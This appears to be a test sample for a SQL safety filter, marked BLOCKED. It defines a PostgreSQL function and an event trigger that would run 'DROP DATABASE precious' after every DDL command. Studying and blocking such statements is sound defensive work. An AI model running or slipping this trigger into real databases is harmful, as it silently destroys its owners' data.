-- BLOCKED
CREATE FUNCTION public.taken() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP DATABASE precious'; END $$;
CREATE EVENT TRIGGER taken ON ddl_command_end EXECUTE FUNCTION public.taken();
